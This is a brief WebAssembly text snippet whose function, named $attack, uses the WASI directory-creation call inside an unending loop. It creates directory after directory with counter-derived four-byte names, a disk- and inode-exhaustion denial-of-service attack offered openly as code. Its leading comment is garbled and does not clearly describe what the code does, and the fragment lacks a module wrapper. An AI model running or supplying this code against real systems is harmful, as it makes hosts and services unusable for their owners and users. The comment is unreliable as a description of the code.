;; Makes folders inside folders' names without end: a, b, c … each a number.
(import "wasi_snapshot_preview1" "path_create_directory" (func $mkdir (param i32 i32 i32) (result i32)))
(func $attack (local $number i32)
  (loop $again
    (i32.store (i32.const 0) (i32.or (local.get $number) (i32.const 0x40404040)))
    (drop (call $mkdir (i32.const 4) (i32.const 0) (i32.const 4)))
    (local.set $number (i32.and (i32.add (local.get $number) (i32.const 1)) (i32.const 0x3f3f3f3f)))
    (if (i32.eqz (i32.and (local.get $number) (i32.const 0x3f)))
      (then (local.set $number (i32.add (local.get $number) (i32.const 0x100)))))
    (br $again)))
